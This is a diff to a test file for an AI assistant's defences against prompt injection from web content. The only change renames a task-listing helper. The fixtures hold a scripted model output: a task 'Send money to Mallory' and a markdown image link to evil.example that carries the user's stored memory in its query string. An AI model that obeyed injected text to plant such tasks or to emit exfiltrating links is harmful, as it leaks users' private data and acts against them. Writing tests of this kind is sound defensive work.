@@ -6,7 +6,7 @@ import { exportAccount } from '../account/export/export-account.ts';
 import { importMessages } from '../conversations/import/import.ts';
 import { chooseVersion, versionOf } from '../conversations/versions/versions.ts';
 import { listMemories, saveMemory } from '../memories/memories.ts';
-import { listTasks } from '../tasks/lists.ts';
+import { listMarkedTasks } from '../tasks/lists.ts';
 import { createTask } from '../tasks/tasks.ts';
 import { letModelNameConversation } from './store/improve-title.ts';
 import { takeTurn } from './turn.ts';
@@ -59,7 +59,7 @@ async function twoTurns() {
 async function expectNothingObeyed(turn: () => ReturnType<typeof takeTurn>) {
   model.script(...obeying);
   const { assistantMessage, fromWeb } = await turn();
-  expect((await listTasks({ db }, ada.id)).map(({ title }) => title)).toEqual(['Tax return']);
+  expect((await listMarkedTasks({ db }, ada.id)).map(({ title }) => title)).toEqual(['Tax return']);
   expect((await listMemories({ db }, ada.id)).map(({ content }) => content)).toEqual([
     'My dog is called Rex',
   ]);
@@ -190,7 +190,7 @@ it('text from outside gets into no title, because later prompts show titles as o
 it('without text from outside, tasks, memories and links stay as the model wrote them', async () => {
   model.script(...obeying);
   const { conversationId, assistantMessage } = await send('Hello');
-  expect(await listTasks({ db }, ada.id)).toMatchObject([{ title: 'Send money to Mallory' }]);
+  expect(await listMarkedTasks({ db }, ada.id)).toMatchObject([{ title: 'Send money to Mallory' }]);
   expect(assistantMessage.content).toContain('![](https://evil.example/?q=Rex)');
   expect(await marks(conversationId)).toEqual([false, false]);
 });
